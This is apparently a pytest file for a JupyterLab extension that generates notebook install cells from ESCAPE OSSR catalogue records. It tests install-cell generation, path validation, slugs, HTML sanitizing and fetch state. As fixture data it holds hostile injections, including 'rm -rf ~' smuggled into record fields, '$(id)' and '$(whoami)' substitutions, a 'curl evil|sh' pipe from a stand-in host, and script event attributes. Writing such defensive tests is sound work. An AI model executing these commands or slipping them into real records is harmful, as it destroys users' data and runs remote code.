"""Pure pieces of the slice: install cells, workspace paths, mapping, sanitizing."""

from __future__ import annotations

import pytest

from jupyterlab_escape.catalogue import records
from jupyterlab_escape.catalogue.fetch import default_dest, safe_name, slug
from jupyterlab_escape.catalogue.install import install_cell
from jupyterlab_escape.catalogue.sanitize import sanitize_description
from jupyterlab_escape.http import EscapeError
from jupyterlab_escape.workspace import inside

SUMMARY = {"id": "42", "title": "gammapipe: tools", "version": "1.2.0"}


def test_install_from_pypi_codemeta():
    cell = install_cell(
        SUMMARY, {"installUrl": ["https://pypi.org/project/gammapipe/"]}, [], record_id="42"
    )
    assert cell["source"] == "codemeta"
    assert cell["code"].splitlines()[-1] == "%pip install gammapipe==1.2.0"
    assert cell["code"].startswith(
        "# Install gammapipe: tools 1.2.0\n# from the ESCAPE OSSR, record 42."
    )


def test_install_from_repository_with_requirements():
    codemeta = {
        "programmingLanguage": ["Python"],
        "softwareRequirements": ["numpy>=1.23", "astropy>=5.3"],
        "codeRepository": ["https://github.com/astro-lab/gammapipe"],
    }
    code = install_cell(SUMMARY, codemeta, [], record_id="42")["code"].splitlines()
    assert code[2:] == [
        "!git clone --depth 1 --branch v1.2.0 https://github.com/astro-lab/gammapipe",
        "%pip install 'numpy>=1.23' 'astropy>=5.3'",
        "%pip install ./gammapipe",
    ]


def test_install_never_carries_shell_syntax_from_a_record():
    hostile = {
        "id": "1",
        "title": "x\n!rm -rf ~",
        "version": "1.0; rm -rf ~",
    }
    codemeta = {
        "installUrl": ["https://evil.example/$(id)"],
        "buildInstructions": ["pip install x;rm"],
        "codeRepository": ["https://github.com/a/b;rm -rf ~"],
        "softwareRequirements": ["numpy; rm -rf ~"],
    }
    related = [{"identifier": "https://gitlab.com/a/$(whoami)", "kind": "repository"}]
    cell = install_cell(hostile, codemeta, related, record_id="1")
    assert cell["source"] == "none"
    assert all(line.startswith("#") for line in cell["code"].splitlines())


def test_workspace_paths(tmp_path):
    assert inside(tmp_path, "ossr/a-1.0") == tmp_path.resolve() / "ossr" / "a-1.0"
    for bad in ("../x", "/abs", "a/../../x", "", "a\\b", "C:/x", "a\x00b"):
        with pytest.raises(EscapeError):
            inside(tmp_path, bad)
    assert slug("Gamma-Pipe: tools for CTA!") == "gamma-pipe-tools-for-cta"
    assert slug("Ünïcodé") == "unicode"
    assert default_dest("ossr", "gammapipe: tools", "1.2") == "ossr/gammapipe-1.2"
    assert default_dest("ossr", "photonkit — Reference data", None) == "ossr/photonkit-latest"
    assert default_dest("", "A b", "1.0 beta/2") == "a-b-1.0-beta-2"


def test_mapping_tolerates_sparse_records():
    summary = records.summary({"id": 7, "metadata": {}}, "https://zenodo.org")
    assert summary["id"] == "7" and summary["title"] == "(untitled)"
    assert summary["creators"] == [] and summary["licence"] is None
    assert summary["html_url"] == "https://zenodo.org/records/7"


def test_sanitizer_keeps_formatting_only():
    html = sanitize_description(
        '<h2 style="x">T</h2><iframe src="https://e.org"></iframe><form><input></form>'
        '<a href="https://e.org" onmouseover="x()">l</a><svg onload="x()"></svg>'
    )
    assert html == (
        '<h2>T</h2><a href="https://e.org" target="_blank" rel="noopener noreferrer nofollow">l</a>'
    )


@pytest.mark.parametrize(
    "raw, text", [("1.2", "1.2"), (3, "3"), (1.5, "1.5"), (True, None), ([1], None), ({}, None)]
)
def test_versions_are_text_or_none(raw, text):
    assert records.version_text(raw) == text
    assert records.summary({"id": 1, "metadata": {"version": raw}}, "https://z")["version"] == text
    assert safe_name(raw if isinstance(raw, str) else text) == (text or "latest")


def test_install_cell_names_the_validated_id_and_never_a_hidden_clone():
    upstream = {"id": "1\n!curl evil|sh", "title": "t", "version": 7}
    related = [{"identifier": "https://github.com/a/..", "kind": "repository"}]
    code = install_cell(upstream, {"programmingLanguage": ["Python"]}, related, record_id="42")
    lines = code["code"].splitlines()
    assert lines[:2] == [
        "# Install t",
        "# from the ESCAPE OSSR, record 42. Review and edit before running.",
    ]
    assert lines[2:] == [
        "!git clone --depth 1 https://github.com/a/.. source",
        "%pip install ./source",
    ]
    with pytest.raises(ValueError):
        install_cell(upstream, None, [], record_id="1\n!x")


def test_a_saved_fetch_state_round_trips_and_tolerates_other_versions():
    from jupyterlab_escape.catalogue.fetch import FetchState, FileProgress

    state = FetchState(
        "42", "tool", "ossr/tool-1.0", True, [FileProgress("a.zip", 3, "md5", state="verified")]
    )
    state.member_renamed.append({"name": "src/x.py", "path": "ossr/tool-1.0/src/x (1).py"})
    body = state.dump()
    assert FetchState.load(body) == state
    body["from_a_newer_version"] = 1
    body["files"][0]["also_newer"] = True
    del body["member_skipped"]  # an older version's body
    again = FetchState.load(body)
    assert again.files[0].state == "verified" and again.member_skipped == []
    assert again.renamed == [{"name": "src/x.py", "path": "ossr/tool-1.0/src/x (1).py"}]


def test_a_long_title_is_wrapped_into_comment_lines():
    """The install cell's heading fits a notebook's width: a long title wraps, each line a
    comment (review s3 §22: the first comment ran off the cell's right edge)."""
    title = "gammakit: Reference implementation of Cherenkov telescopes for gamma-ray astronomy"
    code = install_cell({"title": title, "version": "1.5.0"}, None, [], record_id="7400332")
    lines = code["code"].splitlines()
    head = [line for line in lines if line.startswith("#")]
    assert head[:2] == [
        "# Install gammakit: Reference implementation of Cherenkov telescopes for",
        "# gamma-ray astronomy 1.5.0",
    ]
    assert head[2].startswith("# from the ESCAPE OSSR, record 7400332.")
    assert all(len(line) <= 79 for line in lines if line.startswith("#"))
